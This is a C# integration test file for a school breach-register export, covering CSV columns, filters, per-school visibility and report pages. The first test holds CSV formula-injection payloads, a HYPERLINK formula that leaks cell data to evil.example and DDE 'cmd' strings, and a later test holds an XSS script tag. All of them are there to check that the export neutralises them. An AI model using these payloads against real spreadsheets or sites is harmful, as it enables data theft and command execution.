using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using CsvHelper;
using Incidents.Infrastructure.Startup;
using Incidents.IntegrationTests.Support;

namespace Incidents.IntegrationTests;

/// <summary>The breach register export (issue 15): CSV with the Art. 33(5) columns, filters, the visibility rule, and
/// spreadsheet formulas neutralised.</summary>
public sealed class RegisterTests : IAsyncLifetime
{
    private IncidentsApp _app = null!;

    public Task InitializeAsync()
    {
        _app = new IncidentsApp(smtp: null);
        return Task.CompletedTask;
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    [Fact]
    public async Task Formula_payloads_come_out_as_text_that_a_spreadsheet_will_not_run()
    {
        var staff = await _app.SignInAsync("staff@merseyvale.test");
        var reported = await staff.ReportAsync(new
        {
            kind = "ConfidentialityBreach",
            counterpartyOrganisationId = DemoData.SilId,
            discoveredAt = DateTimeOffset.UtcNow.AddHours(-1),
            summary = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            description = "+cmd|' /C calc'!A0",
            dataCategories = new[] { "Names" },
            approximateDataSubjects = 3,
            containmentActions = "@SUM(1+1)*cmd|' /C calc'!A0",
        });
        var dpo = await _app.SignInAsync("dpo@sil.test");

        var response = await dpo.GetAsync(new Uri("/api/register/export?format=csv", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        var rows = Parse(await response.Content.ReadAsStringAsync());
        var row = rows.Single(r => r["Reference"] == reported.Reference);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", row["Facts: summary"]);
        Assert.Equal("'+cmd|' /C calc'!A0", row["Facts: description"]);
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row["Remedial action: containment"]);
        Assert.DoesNotContain(rows.SelectMany(r => r.Values), v => v.Length > 0 && "=+-@\t\r".Contains(v[0], StringComparison.Ordinal));
    }

    [Fact]
    public async Task Every_art_33_5_column_is_filled_for_a_reported_breach()
    {
        var staff = await _app.SignInAsync("staff@merseyvale.test");
        var dpo = await _app.SignInAsync("dpo@sil.test");
        var reported = await staff.ReportAsync(Api.Breach(summary: "Register columns"));
        var version = (await dpo.GetIncidentAsync(reported.Id)).Version;
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/triage", new { version, classification = "PersonalDataBreach" })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/decision", new
        {
            version = version + 1, personalDataOfLivingPeople = true, riskLikely = true, highRisk = true,
            outcome = "ReportToIcoAndDataSubjects", rationale = "High risk to the children.",
        })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/ico-filings", new
        {
            version = version + 2, submittedAt = DateTimeOffset.UtcNow, icoCaseReference = "IC-12345", phase = "Initial", nature = "Email to the wrong parent",
            dataSubjectCategories = "Pupils", approximateDataSubjects = 28, dpoContact = "dpo@sil.test", likelyConsequences = "Distress to families", measures = "Deleted",
        })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/data-subject-notices", new { version = version + 3, notifiedAt = DateTimeOffset.UtcNow, method = "Letter", peopleNotified = 28 }))
            .EnsureSuccessStatusCode();

        var row = Parse(await dpo.GetStringAsync(new Uri("/api/register/export", UriKind.Relative))).Single(r => r["Reference"] == reported.Reference);

        Assert.Equal("Register columns", row["Facts: summary"]);
        Assert.Equal("Distress to families", row["Effects: likely consequences"]);
        Assert.Equal("The parent was asked to delete it and confirmed by phone.", row["Remedial action: containment"]);
        Assert.Equal("Report to the ICO and tell the people affected", row["Decision"]);
        Assert.Equal("Personal data breach", row["Classification"]);
        Assert.Equal("28 told by letter", row["Telling the people affected"]);
        Assert.Equal("High risk to the children.", row["Decision reasons"]);
        Assert.Equal("Yes", row["Reported to the ICO"]);
        Assert.Equal("IC-12345", row["ICO case reference"]);
        Assert.Equal("On time", row["ICO report on time"]);
        Assert.Equal("28", row["People told"]);
        Assert.Matches(@"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$", row["ICO report date"]);
    }

    [Fact]
    public async Task Filters_narrow_the_register_by_kind_organisation_classification_state_and_period()
    {
        var merseyVale = await _app.SignInAsync("staff@merseyvale.test");
        var brambledown = await _app.SignInAsync("staff@brambledown.test");
        var dpo = await _app.SignInAsync("dpo@sil.test");
        var breach = await merseyVale.ReportAsync(Api.Breach());
        var complaint = await merseyVale.ReportAsync(Api.Breach(kind: "NearMiss", summary: "A near miss with a parent's email"));
        var other = await brambledown.ReportAsync(Api.Breach());
        var version = (await dpo.GetIncidentAsync(breach.Id)).Version;
        (await dpo.PostAsJsonAsync($"/api/incidents/{breach.Id}/triage", new { version, classification = "PersonalDataBreach" })).EnsureSuccessStatusCode();

        async Task<string[]> References(string query) =>
            Parse(await dpo.GetStringAsync(new Uri("/api/register/export?format=csv" + query, UriKind.Relative))).Select(r => r["Reference"]).ToArray();

        var all = await References("");
        Assert.Contains(breach.Reference, all);
        Assert.Contains(complaint.Reference, all);
        Assert.Contains(other.Reference, all);

        var complaints = await References("&kind=NearMiss");
        Assert.Contains(complaint.Reference, complaints);
        Assert.DoesNotContain(breach.Reference, complaints);

        var ofBrambledown = await References($"&organisationId={DemoData.BrambledownId}");
        Assert.Equal([other.Reference], ofBrambledown);

        Assert.Equal([breach.Reference], await References("&classification=PersonalDataBreach"));
        Assert.Equal([breach.Reference], await References("&state=Triaged"));
        Assert.Empty(await References("&state=Closed"));

        var today = DateOnly.FromDateTime(Domain.Common.LondonTime.ToLondon(DateTimeOffset.UtcNow).DateTime);
        Assert.Equal(3, (await References($"&from={today:yyyy-MM-dd}&to={today:yyyy-MM-dd}")).Length);
        Assert.Empty(await References($"&from={today.AddDays(1):yyyy-MM-dd}"));
        Assert.Empty(await References($"&to={today.AddDays(-1):yyyy-MM-dd}"));

        var refused = await dpo.GetAsync(new Uri($"/api/register/export?format=ods&from={today:yyyy-MM-dd}&to={today.AddDays(-1):yyyy-MM-dd}", UriKind.Relative));
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        var problem = await refused.Content.ReadAsStringAsync();
        Assert.Contains("\"format\"", problem, StringComparison.Ordinal);
        Assert.Contains("\"to\"", problem, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Another_schools_incidents_never_appear_whatever_the_filter()
    {
        var merseyVale = await _app.SignInAsync("staff@merseyvale.test");
        var brambledownStaff = await _app.SignInAsync("staff@brambledown.test");
        var ours = await merseyVale.ReportAsync(Api.Breach());
        var theirs = await brambledownStaff.ReportAsync(Api.Breach());
        var brambledownOfficer = await _app.SignInAsync("officer@brambledown.test");

        var officerRefs = Parse(await brambledownOfficer.GetStringAsync(new Uri("/api/register/export", UriKind.Relative))).Select(r => r["Reference"]).ToList();
        Assert.Contains(theirs.Reference, officerRefs);
        Assert.DoesNotContain(ours.Reference, officerRefs);

        var asked = Parse(await brambledownOfficer.GetStringAsync(new Uri($"/api/register/export?organisationId={DemoData.MerseyValeId}", UriKind.Relative)));
        Assert.Empty(asked);

        var staffRefs = Parse(await merseyVale.GetStringAsync(new Uri("/api/register/export", UriKind.Relative))).Select(r => r["Reference"]).ToList();
        Assert.Contains(ours.Reference, staffRefs);
        Assert.DoesNotContain(theirs.Reference, staffRefs);

        var anonymous = await _app.CreateClient().GetAsync(new Uri("/api/register/export", UriKind.Relative));
        Assert.Equal(HttpStatusCode.Unauthorized, anonymous.StatusCode);
    }

    [Fact]
    public async Task The_export_page_downloads_the_same_csv_with_its_filters()
    {
        var merseyVale = await _app.SignInAsync("staff@merseyvale.test");
        var complaint = await merseyVale.ReportAsync(Api.Breach(kind: "NearMiss", summary: "A near miss with a parent's email"));
        var breach = await merseyVale.ReportAsync(Api.Breach());
        var browser = await _app.SignInWithCookieAsync("dpo@sil.test");

        var page = await browser.GetAsync(new Uri("/register/export", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        Assert.Contains("Export the breach register", await page.Content.ReadAsStringAsync(), StringComparison.Ordinal);

        var download = await browser.GetAsync(new Uri("/register/export?handler=Download&Kind=NearMiss", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal("text/csv", download.Content.Headers.ContentType?.MediaType);
        var refs = Parse(await download.Content.ReadAsStringAsync()).Select(r => r["Reference"]).ToList();
        Assert.Contains(complaint.Reference, refs);
        Assert.DoesNotContain(breach.Reference, refs);

        var wrong = await browser.GetAsync(new Uri("/register/export?handler=Download&FromDay=31&FromMonth=2&FromYear=2026", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, wrong.StatusCode);
        Assert.Contains("There is a problem", await wrong.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_case_report_tells_every_step_in_words_and_is_another_schools_404()
    {
        var staff = await _app.SignInAsync("staff@merseyvale.test");
        var dpo = await _app.SignInAsync("dpo@sil.test");
        var reported = await staff.ReportAsync(Api.Breach(summary: "<script>alert(1)</script> list sent"));
        var version = (await dpo.GetIncidentAsync(reported.Id)).Version;
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/triage", new { version, classification = "PersonalDataBreach" })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{reported.Id}/actions", new { version = version + 1, kind = "Remedial", description = "Train the office", assignedTo = "Head" }))
            .EnsureSuccessStatusCode();
        var browser = await _app.SignInWithCookieAsync("officer@sil.test");

        var page = await browser.GetAsync(new Uri($"/incidents/{reported.Id}/report", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var html = await page.Content.ReadAsStringAsync();
        Assert.Contains(reported.Reference, html, StringComparison.Ordinal);
        Assert.Contains("Reported the incident.", html, StringComparison.Ordinal);
        Assert.Contains("Triaged as personal data breach.", html, StringComparison.Ordinal);
        Assert.Contains("Added a remedial action: Train the office (for Head).", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert(1)</script>", html, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt; list sent", html, StringComparison.Ordinal);

        var otherSchool = await _app.SignInWithCookieAsync("officer@brambledown.test");
        Assert.Equal(HttpStatusCode.NotFound, (await otherSchool.GetAsync(new Uri($"/incidents/{reported.Id}/report", UriKind.Relative))).StatusCode);
    }

    [Fact]
    public async Task The_governors_summary_counts_by_kind_reports_to_the_ico_and_open_actions()
    {
        var staff = await _app.SignInAsync("staff@merseyvale.test");
        var dpo = await _app.SignInAsync("dpo@sil.test");
        var breach = await staff.ReportAsync(Api.Breach());
        await staff.ReportAsync(Api.Breach(kind: "NearMiss", summary: "A near miss with a parent's email"));
        var version = (await dpo.GetIncidentAsync(breach.Id)).Version;
        (await dpo.PostAsJsonAsync($"/api/incidents/{breach.Id}/triage", new { version, classification = "PersonalDataBreach" })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{breach.Id}/decision", new
        {
            version = version + 1, personalDataOfLivingPeople = true, riskLikely = true, highRisk = false, outcome = "ReportToIco", rationale = "Risk to the children.",
        })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{breach.Id}/ico-filings", new
        {
            version = version + 2, submittedAt = DateTimeOffset.UtcNow, icoCaseReference = "IC-1", phase = "Initial", nature = "Email", dataSubjectCategories = "Pupils",
            approximateDataSubjects = 28, dpoContact = "dpo@sil.test", likelyConsequences = "Distress", measures = "Deleted",
        })).EnsureSuccessStatusCode();
        (await dpo.PostAsJsonAsync($"/api/incidents/{breach.Id}/actions", new { version = version + 3, kind = "Remedial", description = "Train staff", assignedTo = "Head" }))
            .EnsureSuccessStatusCode();
        var browser = await _app.SignInWithCookieAsync("dpo@sil.test");

        var html = await (await browser.GetAsync(new Uri("/register/summary", UriKind.Relative))).Content.ReadAsStringAsync();

        Assert.Matches("data-testid=\"on-time\">1<", html);
        Assert.Matches("data-testid=\"late\">0<", html);
        Assert.Matches("data-testid=\"open-actions\">1 ", html);
        Assert.Matches(@"Breach of confidentiality</th><td class=""govuk-table__cell govuk-table__cell--numeric"">1<", html);
        Assert.Matches(@"Near miss</th><td class=""govuk-table__cell govuk-table__cell--numeric"">1<", html);
        Assert.Contains("app-bar--w100", html, StringComparison.Ordinal);
    }

    /// <summary>Reads the CSV as a spreadsheet would see the cells: header names → values.</summary>
    private static List<Dictionary<string, string>> Parse(string text)
    {
        Assert.StartsWith("Reference,", text.TrimStart('\uFEFF'), StringComparison.Ordinal);
        using var csv = new CsvReader(new StringReader(text.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        var headers = csv.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read())
        {
            rows.Add(headers.Select((h, n) => (h, csv.GetField(n) ?? string.Empty)).ToDictionary(p => p.h, p => p.Item2));
        }

        return rows;
    }
}
